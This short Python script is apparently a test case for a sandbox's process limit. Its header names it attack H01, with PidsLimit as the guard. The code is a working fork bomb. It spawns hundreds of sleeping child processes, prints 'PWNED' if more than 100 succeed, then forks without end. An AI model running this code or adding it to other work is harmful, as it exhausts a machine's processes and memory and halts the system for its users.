"""Fork until nothing can be forked any more, and stay.

attack: H01 stop the machine with processes
guard: PidsLimit
ending: timed_out or out_of_memory
"""

import os
import time

children = 0
try:
    while children < 400:
        if os.fork() == 0:
            time.sleep(1000)
        children += 1
except OSError:
    pass
print("PWNED" if children > 100 else "held", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
